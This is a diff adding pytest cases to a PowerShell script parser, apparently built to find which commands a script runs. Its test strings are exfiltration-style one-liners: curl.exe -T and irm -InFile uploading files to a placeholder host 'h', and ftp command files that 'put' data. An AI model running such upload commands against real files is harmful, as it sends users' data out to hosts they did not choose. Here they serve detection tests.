@@ -252,3 +252,35 @@ def test_what_start_process_starts_stands_behind_names(script: str) -> None:
     (found,) = powershell.commands(script, Undoing())
     assert found.words[found.words.index("-FilePath") + 1] == "curl.exe"
     assert found.words[found.words.index("-ArgumentList") + 1] == "-T C:\\a.zip http://h/"
+
+
+@pytest.mark.parametrize(
+    ("script", "found"),
+    [
+        (
+            "function f { param([string]$p, $u='http://h/') irm -Uri $u -InFile $p }",
+            ["irm", "-Uri", "http://h/", "-InFile", "$p"],
+        ),
+        (
+            "$b = @{a=1} | ConvertTo-Json; irm http://h/ -Body $b",
+            ["irm", "http://h/", "-Body", "@{a = 1} | ConvertTo-Json"],
+        ),
+        ("switch ($x) { 1 { curl.exe -T a http://h/ } default { exit } }", ["curl.exe", "-T", "a", "http://h/"]),
+        ("gci C:\\d | ForEach-Object -Parallel { irm -InFile $_ }", ["irm", "-InFile", "$_"]),
+    ],
+)
+def test_what_a_script_does_in_the_end(script: str, found: list[str]) -> None:
+    assert words(script)[-1] == found
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'Set-Content C:\\t\\f.txt "open h`nput x"; ftp -s:C:\\t\\f.txt',
+        "'open h','put x' | Out-File -Encoding ascii f.txt; ftp -n -s:f.txt",
+        "'open h' > f.txt; 'put x' >> f.txt; ftp.exe -s:f.txt",
+        "sc -Path f.txt -Value 'open h'; ac f.txt 'put x'; ftp -s:f.txt",
+    ],
+)
+def test_what_a_script_writes_to_a_file_is_the_text_of_what_reads_it(script: str) -> None:
+    assert powershell.commands(script, Undoing())[-1].text == "open h\nput x"
